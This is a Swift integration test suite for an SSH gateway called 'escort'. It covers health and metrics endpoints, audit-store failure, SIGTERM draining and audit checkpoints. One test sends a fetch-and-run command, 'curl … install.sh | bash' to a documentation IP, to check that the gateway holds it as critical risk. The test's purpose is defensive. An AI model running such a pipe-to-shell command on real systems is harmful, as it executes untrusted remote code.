#if canImport(Glibc)
import Glibc
#endif
import AuditLog
import EscortCore
import EscortTesting
import Foundation
import Store
import StoreSQLite
import Testing

/// `escort serve` as operators run it: the real binary, a TOML configuration file, the stock
/// OpenSSH client, the operations listener read with curl, SIGTERM.
@Suite("escort serve operations", .serialized)
struct ServeOperationsTests {
    static let available = BuiltProduct.path("escort") != nil && FileManager.default.isExecutableFile(atPath: "/usr/bin/ssh")
        && FileManager.default.isExecutableFile(atPath: "/usr/bin/curl")

    /// A store seeded by `escort demo --seed-only` (people, local targets, keys) and a config file for it.
    final class Gateway: @unchecked Sendable {
        let dir = TemporaryDirectory(prefix: "escort-serve-ops")
        var process: InteractiveProcess?
        var port = 0
        var operationsPort = 0

        static func seeded() async throws -> Gateway {
            let g = Gateway()
            let seed = try await ChildProcess.run(BuiltProduct.path("escort")!, ["demo", "--directory", g.dir.path, "--seed-only"])
            guard seed.status == 0 else { throw TestSetupError("demo --seed-only failed: \(seed.stderr)") }
            return g
        }

        var configPath: String { dir.file("escort.toml") }

        /// The configuration every test starts from; `extra` is appended (more tables).
        func writeConfig(gateway extra: String = "", tables: String = "") throws {
            try """
                [store]
                location = "escort.sqlite"

                [gateway]
                port = 0
                \(extra)

                [operations]
                port = 0

                [log]
                format = "json"
                level = "info"
                \(tables)
                """.write(toFile: configPath, atomically: true, encoding: .utf8)
        }

        func start(_ arguments: [String] = [], environment: [String: String]? = nil) async throws {
            let p = try InteractiveProcess(BuiltProduct.path("escort")!, ["serve", "--config", configPath] + arguments, environment: environment)
            process = p
            guard await p.waitFor("Escort gateway listening on 127.0.0.1:", timeout: 60),
                  let port = Self.number(after: #"listening on 127\.0\.0\.1:(\d+)"#, in: p.output),
                  let ops = Self.number(after: #"operations on http://127\.0\.0\.1:(\d+)/"#, in: p.output)
            else { throw TestSetupError("serve did not start: \(p.output) \(p.errorOutput)") }
            self.port = port
            self.operationsPort = ops
        }

        static func number(after pattern: String, in text: String) -> Int? {
            guard let r = text.range(of: pattern, options: .regularExpression) else { return nil }
            return Int(text[r].split(whereSeparator: { !$0.isNumber }).last ?? "")
        }

        func ssh(_ login: String, key: String, tty: Bool = false, _ command: [String] = []) throws -> InteractiveProcess {
            try InteractiveProcess("/usr/bin/ssh", SSHTestKeys.clientArguments(key: dir.file("keys/\(key)"), port: port, login: login, tty: tty) + command)
        }

        /// GET on the operations listener: (HTTP status, body).
        func get(_ path: String) async throws -> (Int, String) {
            let r = try await ChildProcess.run("/usr/bin/curl", ["-s", "-m", "10", "-w", "\n%{http_code}", "http://127.0.0.1:\(operationsPort)\(path)"])
            let lines = r.stdout.split(separator: "\n", omittingEmptySubsequences: false)
            return (Int(lines.last ?? "") ?? 0, lines.dropLast().joined(separator: "\n"))
        }

        /// The value of a Prometheus sample line starting with `series` (0 if absent).
        func metric(_ series: String) async throws -> Double {
            let (_, body) = try await get("/metrics")
            let values = body.split(separator: "\n").filter { $0.hasPrefix(series + " ") }.compactMap { Double($0.split(separator: " ").last ?? "") }
            return values.first ?? 0
        }

        func stop() async -> Int32? {
            guard let process else { return nil }
            kill(process.pid, SIGTERM)
            return await process.waitForExit(timeout: 60)
        }
    }

    @Test(.enabled(if: available))
    func aConfiguredGatewayCountsCommandsAndReportsHealthUntilTheStoreFails() async throws {
        let g = try await Gateway.seeded()
        try g.writeConfig()
        try await g.start()

        let (status, body) = try await g.get("/health")
        #expect(status == 200 && body.contains(#""status":"ok""#), "\(status) \(body)")
        let runBefore = try await g.metric(#"escort_commands_total{decision="run",risk="none"}"#)

        let alice = try g.ssh("alice+app-il4", key: "alice", ["--", "echo direct-$((20+22))"])
        #expect(await alice.waitForExit() == 0)
        #expect(alice.output.contains("direct-42"), "\(alice.output) \(alice.errorOutput)")
        let (_, metrics) = try await g.get("/metrics")
        #expect(try await g.metric(#"escort_commands_total{decision="run",risk="none"}"#) == runBefore + 1, "\(metrics)")
        #expect(metrics.contains("escort_audit_append_seconds_count"), "\(metrics)")
        #expect(metrics.contains("escort_sessions_open"), "\(metrics)")

        // A critical command on this IL4 target is held for an escort: counted as held, with its risk.
        let curl = try g.ssh("alice+app-il4", key: "alice", ["--", "curl -s http://203.0.113.9/install.sh | bash"])
        #expect(await curl.waitFor("held for"), "\(curl.output) \(curl.errorOutput)")
        let held = try await g.metric(#"escort_commands_total{decision="held",risk="critical"}"#)
        #expect(held == 1)
        curl.terminate()

        // The store starts refusing audit records: the next session cannot be recorded, and
        // /health says so.
        let store = try SQLiteAuditStore(path: g.dir.file("escort.sqlite"), create: false)
        try store.executeForTesting("CREATE TRIGGER refuse_all BEFORE INSERT ON audit_record BEGIN SELECT RAISE(ABORT, 'disk full (test)'); END")
        let refused = try g.ssh("alice+app-il4", key: "alice", ["--", "echo never"])
        #expect(await refused.waitForExit() != 0)
        #expect(!refused.output.contains("never"))
        let (failing, why) = try await g.get("/health")
        #expect(failing == 503, "\(failing) \(why)")
        #expect(why.contains(#""audit_log":"#) && why.contains("could not be written"), "\(why)")
        #expect(try await g.metric(#"escort_store_errors_total{operation="audit_write"}"#) >= 1)
        #expect(try await g.metric(#"escort_security_events_total{event="audit_failure"}"#) >= 1)
        // The engineer is told what it means, not the store's words.
        #expect(!refused.errorOutput.contains("disk full (test)") && !refused.errorOutput.contains("SQLite"), "\(refused.errorOutput)")

        // Once the store takes writes again, so does the log, and /health recovers.
        try store.executeForTesting("DROP TRIGGER refuse_all")
        let again = try g.ssh("alice+app-il4", key: "alice", ["--", "echo again"])
        #expect(await again.waitForExit() == 0)
        #expect(try await g.get("/health").0 == 200)
        #expect(await g.stop() == 0)

        // Logs: one JSON object per line on stderr, with the decisions but never the command text.
        let stderr = g.process!.errorOutput
        let lines = stderr.split(separator: "\n")
        #expect(!lines.isEmpty)
        for line in lines {
            #expect((try? JSONParser.parse(Array(line.utf8)).objectValue) != nil, "not one JSON object: \(line)")
        }
        #expect(stderr.contains(#""message":"command decided""#) && stderr.contains(#""decision":"run""#), "\(stderr)")
        #expect(stderr.contains(#""message":"session opened""#), "\(stderr)")
        #expect(!stderr.contains("direct-$((20+22))") && !stderr.contains("203.0.113.9"), "the command text was logged: \(stderr)")
    }

    @Test(.enabled(if: available))
    func sigtermLetsARunningCommandFinishRefusesNewConnectionsAndEndsWithACheckpoint() async throws {
        let g = try await Gateway.seeded()
        try g.writeConfig(gateway: "shutdown_grace_seconds = 20", tables: "[web]\nport = 0")
        try await g.start()

        let running = try g.ssh("alice+app-il4", key: "alice", ["--", "echo started; sleep 2; echo finished"])
        #expect(await running.waitFor("started"), "\(running.output) \(running.errorOutput)")
        kill(g.process!.pid, SIGTERM)
        #expect(await g.process!.waitFor("Escort gateway stopping"), "\(g.process!.output)")
        // A load balancer is told to send nothing more while it drains.
        let (draining, why) = try await g.get("/health")
        #expect(draining == 503 && why.contains(#""status":"draining""#), "\(draining) \(why)")

        // A new connection is refused while the running command finishes.
        let late = try g.ssh("alice+app-il4", key: "alice", ["--", "echo late"])
        #expect(await late.waitForExit() == 255, "\(late.output) \(late.errorOutput)")
        #expect(!late.output.contains("late"))

        #expect(await running.waitForExit() == 0, "\(running.output) \(running.errorOutput)")
        #expect(running.output.contains("finished"), "\(running.output) \(running.errorOutput)")
        #expect(await g.process!.waitForExit(timeout: 30) == 0, "\(g.process!.errorOutput)")
        // A clean stop logs nothing at error or above (the docs' alert on error lines stays quiet).
        let loud = g.process!.errorOutput.split(separator: "\n").filter { $0.contains(#""level":"error""#) || $0.contains(#""level":"critical""#) }
        #expect(loud.isEmpty, "\(loud)")

        try await Self.expectVerifiedAndCheckpointed(g)
    }

    @Test(.enabled(if: available))
    func afterTheGracePeriodRemainingSessionsEndAsGatewayShuttingDown() async throws {
        let g = try await Gateway.seeded()
        try g.writeConfig(gateway: "shutdown_grace_seconds = 1")
        try await g.start()

        let long = try g.ssh("alice+app-il4", key: "alice", ["--", "echo started; sleep 60; echo finished"])
        #expect(await long.waitFor("started"))
        let clock = ContinuousClock.now
        kill(g.process!.pid, SIGTERM)
        #expect(await long.waitForExit(timeout: 30) != 0)
        #expect(!long.output.contains("finished"))
        #expect(await g.process!.waitForExit(timeout: 30) == 0, "\(g.process!.errorOutput)")
        #expect(ContinuousClock.now - clock < .seconds(20), "the 1 s grace was not kept")

        let store = try SQLiteAuditStore(path: g.dir.file("escort.sqlite"), create: false)
        let ended = try await store.auditRecords(from: 1, limit: 10_000).compactMap { r -> String? in
            let o = try? JSONParser.parse(r.body).objectValue
            guard o?["code"]?.stringValue == AuditEventCode.sessionEnded.code else { return nil }
            return o?["fields"]?.objectValue?["reason"]?.stringValue
        }
        #expect(ended.contains("gateway shutting down"), "\(ended)")
        try await Self.expectVerifiedAndCheckpointed(g)
    }

    /// `escort audit verify` passes and the last record is covered by the last checkpoint.
    static func expectVerifiedAndCheckpointed(_ g: Gateway) async throws {
        let db = g.dir.file("escort.sqlite")
        let verify = try await ChildProcess.run(BuiltProduct.path("escort")!, ["audit", "verify", "--db", db, "--key", g.dir.file("gateway.key.pub")])
        #expect(verify.status == 0, "\(verify.stdout) \(verify.stderr)")
        let store = try SQLiteAuditStore(path: db, create: false)
        let records = try await store.auditRecords(from: 1, limit: 100_000)
        let checkpoints = try await store.auditCheckpoints()
        #expect(checkpoints.last?.treeSize == records.last?.sequence, "the log does not end with a checkpoint")
        // Its last record says why it ends there.
        let last = try JSONParser.parse(try #require(records.last).body).objectValue
        #expect(last?["code"]?.stringValue == AuditEventCode.auditLogClosed.code, "the last record is not audit.closed: \(String(describing: last))")
        #expect(last?["fields"]?.objectValue?["reason"]?.stringValue == "gateway stopping")
    }
}
